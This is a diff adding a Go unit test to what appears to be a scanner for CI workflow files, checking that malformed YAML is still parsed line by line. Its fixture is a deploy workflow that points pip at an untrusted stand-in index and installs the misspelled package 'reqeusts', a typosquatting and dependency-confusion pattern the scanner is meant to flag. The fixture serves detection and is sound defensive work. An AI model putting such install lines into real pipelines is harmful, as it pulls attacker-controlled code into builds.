@@ -474,3 +474,18 @@ func FuzzRead(f *testing.F) {
 		}
 	})
 }
+
+// YAML the decoder rejects is still read line by line.
+func TestBrokenYAMLFallback(t *testing.T) {
+	res := Read(".github/workflows/deploy.yml", []byte("jobs:\n  a:\n    env:\n      PIP_EXTRA_INDEX_URL: https://x.example/simple\n    steps:\n      - run: curl -u a: b && pip install --trusted-host x.example reqeusts\n"))
+	want := []string{"4 pip extra-index https://x.example/simple", "6 pip trusted-host x.example"}
+	if g := got(res); strings.Join(g, "\n") != strings.Join(want, "\n") {
+		t.Errorf("got %q", g)
+	}
+	if g := installs(res); len(g) != 1 || !strings.Contains(g[0], "reqeusts") {
+		t.Errorf("installs %q", g)
+	}
+	if len(res.Warnings) != 0 {
+		t.Errorf("warnings %+v", res.Warnings)
+	}
+}
